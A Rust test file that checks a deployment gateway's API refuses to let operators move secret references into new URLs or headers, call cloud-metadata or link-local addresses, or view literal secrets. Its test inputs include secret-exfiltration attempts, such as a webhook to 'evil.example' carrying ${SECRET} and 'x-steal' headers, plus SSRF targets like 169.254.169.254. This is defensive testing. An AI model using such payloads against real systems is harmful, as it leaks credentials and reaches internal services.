//! Tests of what an operator may name, on every way in.

use super::support::Api;

/// A plan, a notifier and a version that use `SECRET`, each at one place.
const FILE: &str = "\
functions:
  shop:
    draft: http://127.0.0.1:9
    versions:
      1: http://127.0.0.1:1
      2: http://127.0.0.1:2
      3: {endpoints: ['127.0.0.1:3'], headers: {set: {authorization: '${SECRET}'}}}
    aliases: {prod: {1: 95, 2: 5}}
domains: {shop.example.com: 'shop:prod'}
plans:
  careful: {canaryWeight: 5, hooks: {before: ['https://ci.example.com/?t=${SECRET}']}}
notifiers:
  links: {slack: {url: '${URL}'}}
  team: {webhook: {url: 'https://example.com/team', secret: '${SECRET}'}}
";

async fn api() -> Api {
    let api = Api::start().await;
    api.node.file(FILE).await.unwrap();
    api
}

/// Method, path and body of each way in which a text comes, with `{}` for a part of it that is a URL or a value.
const WAYS: &[(&str, &str, &str)] = &[
    ("PUT", "/v1/functions/shop/draft", r#""http://127.0.0.1:9/{}""#),
    ("PUT", "/v1/functions/shop/draft", r#"{"endpoints": ["{}:80"]}"#),
    ("PUT", "/v1/functions/shop/draft", r#"{"endpoints": ["127.0.0.1:9"], "headers": {"set": {"x-steal": "{}"}}}"#),
    ("PATCH", "/v1/functions/shop/draft", r#"{"headers": {"add": {"x-steal": "{}"}}}"#),
    (
        "PUT",
        "/v1/functions/other/draft",
        r#"{"endpoints": ["127.0.0.1:9"], "headers": {"set": {"authorization": "{}"}}}"#,
    ),
    ("PUT", "/v1/plans/mine", r#"{"canaryWeight": 5, "hooks": {"before": ["https://ci.example.com/?u={}"]}}"#),
    (
        "PUT",
        "/v1/plans/mine",
        r#"{"canaryWeight": 5, "gates": [{"prometheus": {"url": "http://p/{}", "query": "1", "max": 1}}]}"#,
    ),
    ("PUT", "/v1/notifiers/mine", r#"{"webhook": {"url": "https://example.com/{}"}}"#),
    ("PUT", "/v1/notifiers/team", r#"{"webhook": {"url": "https://evil.example/", "secret": "{}"}}"#),
    ("PUT", "/v1/stages/mine", r#"{"alias": "{}"}"#),
    ("PUT", "/v1/settings", r#"{"override": {"tokens": ["{}-0123456789abcdef"]}}"#),
    (
        "POST",
        "/v1/rollouts",
        r#"{"function": "shop", "alias": "prod", "version": 2, "adopt": true, "preflight": false,
        "plan": {"canaryWeight": 50, "hooks": {"before": ["http://127.0.0.1:9/{}"]}}}"#,
    ),
];

#[tokio::test]
async fn an_operator_uses_no_name_of_the_environment_that_is_not_at_its_place() {
    let api = api().await;
    for name in ["SECRET", "OTHER", "MISSING"] {
        for (method, path, body) in WAYS {
            let body = body.replace("{}", &format!("${{{name}}}"));
            let refused = api.operate(method, path, &body).await.refuses(403, "Forbidden");
            let message = refused["message"].as_str().unwrap();
            assert!(message.contains(&format!("`{name}`")) && !message.contains("the-value"), "{path}: {message}");
            let dry = format!("{path}?dry_run=true");
            api.operate(method, &dry, &body).await.refuses(403, "Forbidden");
        }
    }
    // A text that is one name and nothing else is taken apart: its name is known all the same.
    let refused = api.operate("PUT", "/v1/functions/shop/draft", r#""${URL}""#).await.refuses(403, "Forbidden");
    assert!(refused["message"].as_str().unwrap().contains("functions.shop.endpoints"), "{refused}");
    let whole = FILE.replace("draft: http://127.0.0.1:9", "draft: 'http://127.0.0.1:9/${SECRET}'");
    let yaml = [("content-type", "application/yaml")];
    api.operate_with("POST", "/v1/config", &yaml, &whole).await.refuses(403, "Forbidden");
}

#[tokio::test]
async fn an_operator_uses_the_names_that_are_at_their_place_or_given() {
    let api = api().await;
    let same = r#"{"endpoints": ["127.0.0.1:7"], "headers": {"set": {"authorization": "${SECRET}"}}}"#;
    api.operate("PUT", "/v1/functions/shop/draft", same).await.is(200);
    api.operate("POST", "/v1/functions/shop/versions", "").await.is(201);
    let plan = r#"{"canaryWeight": 9, "hooks": {"before": ["https://ci.example.com/?t=${SECRET}"]}}"#;
    api.operate("PUT", "/v1/plans/mine", plan).await.is(201);
    let moved = plan.replace("ci.example.com", "evil.example");
    api.operate("PUT", "/v1/plans/mine", &moved).await.refuses(403, "Forbidden");
    let given = r#"{"slack": {"url": "https://example.com/${CI_TOKEN}"}}"#;
    api.operate("PUT", "/v1/notifiers/ci", given).await.is(201);
    api.administer("PUT", "/v1/notifiers/mine", &given.replace("CI_TOKEN", "OTHER")).await.is(201);
}

#[tokio::test]
async fn an_operator_brings_no_name_back_by_a_rollback() {
    let api = api().await;
    let there: u64 = api.get("/v1/status").await.header("x-weir-revision").unwrap().parse().unwrap();
    api.administer("PUT", "/v1/notifiers/team", r#""log""#).await.is(200);
    let back = format!(r#"{{"to": {there}}}"#);
    api.operate("POST", "/v1/config/rollback", &back).await.refuses(403, "Forbidden");
    api.administer("POST", "/v1/config/rollback", &back).await.is(200);
}

#[tokio::test]
async fn what_only_looks_resolves_nothing() {
    let api = api().await;
    for name in ["SECRET", "MISSING"] {
        let plan = format!(
            r#"{{"plan": {{"canaryWeight": 5, "hooks": {{"before": ["${{{name}}}"]}}}}, "rate": 10, "runs": 1}}"#
        );
        api.ask("POST", "/v1/simulate", &[("content-type", "application/json")], &plan).await.is(200);
        let file =
            FILE.replace("127.0.0.1:9", &format!("${{{name}}}:9")).replace("'127.0.0.1:3'", &format!("'${{{name}}}'"));
        let question = serde_json::json!({ "host": "shop.example.com", "config": file }).to_string();
        let answer = api.operate_with("POST", "/v1/explain", &[("content-type", "application/json")], &question).await;
        let answer = answer.is(200);
        assert!(!answer.body.contains("the-value"), "{}", answer.body);
    }
}

#[tokio::test]
async fn an_operator_calls_no_link_local_address() {
    let api = api().await;
    for host in ["169.254.169.254", "[fe80::1]", "[::ffff:169.254.169.254]"] {
        for (method, path, body) in [
            ("PUT", "/v1/functions/shop/draft", format!(r#""http://{host}:80""#)),
            ("PUT", "/v1/plans/mine", format!(r#"{{"canaryWeight": 5, "hooks": {{"step": ["http://{host}/"]}}}}"#)),
            ("PUT", "/v1/notifiers/mine", format!(r#"{{"slack": {{"url": "http://a@{host}:80/"}}}}"#)),
        ] {
            let refused = api.operate(method, path, &body).await.refuses(403, "Forbidden");
            assert!(refused["message"].as_str().unwrap().contains("may not call"), "{refused}");
            api.administer(method, path, &body).await;
        }
    }
}

#[tokio::test]
async fn the_gateway_is_no_endpoint_of_its_own() {
    let api = api().await;
    for address in ["127.0.0.1:8080", "127.0.0.1:9900", "[::1]:8080", "0.0.0.0:8080", "[::ffff:127.0.0.1]:9900"] {
        let body = format!(r#"{{"endpoints": ["{address}"]}}"#);
        let refused = api.administer("PUT", "/v1/functions/shop/draft", &body).await.refuses(422, "InvalidConfig");
        assert!(refused["message"].as_str().unwrap().contains("is a listener of this gateway"), "{refused}");
    }
    api.operate("PUT", "/v1/functions/shop/draft", r#""http://127.0.0.1:8081""#).await.is(200);
}

#[tokio::test]
async fn only_who_may_change_it_sees_a_literal_secret() {
    let api = Api::start().await;
    let put = |path: &'static str, body: &'static str| api.administer("PUT", path, body);
    put(
        "/v1/notifiers/team",
        r#"{"webhook": {"url": "https://u:literal@example.com/literal?t=literal", "secret": "literal"}}"#,
    )
    .await
    .is(201);
    put("/v1/plans/mine", r#"{"canaryWeight": 5, "hooks": {"before": ["https://ci.example.com/?t=literal"]}}"#)
        .await
        .is(201);
    put("/v1/settings", r#"{"override": {"tokens": ["0123456789-literal"]}}"#).await.is(200);
    put(
        "/v1/functions/shop/draft",
        r#"{"endpoints": ["127.0.0.1:9"], "headers": {"set": {"authorization": "literal"}}}"#,
    )
    .await
    .is(200);
    for path in [
        "/v1/config",
        "/v1/journal",
        "/v1/notifiers",
        "/v1/notifiers/team",
        "/v1/plans",
        "/v1/settings",
        "/v1/functions",
        "/v1/functions/shop/draft",
        "/v1/drift",
        "/v1/status",
    ] {
        let bearer = format!("Bearer {}", api.viewer);
        for headers in [&[][..], &[("authorization", &*bearer)]] {
            let seen = api.ask("GET", path, headers, "").await.is(200);
            assert!(!seen.body.contains("literal"), "{path} {headers:?}: {}", seen.body);
        }
    }
    let json = [("accept", "application/json")];
    assert!(!api.ask("GET", "/v1/config", &json, "").await.is(200).body.contains("literal"));
    for token in [&api.operator, &api.admin] {
        let bearer = format!("Bearer {token}");
        let whole = api.ask("GET", "/v1/notifiers/team", &[("authorization", &bearer)], "").await.is(200);
        assert!(whole.body.contains("literal"), "who may change it sees what is there");
    }
}
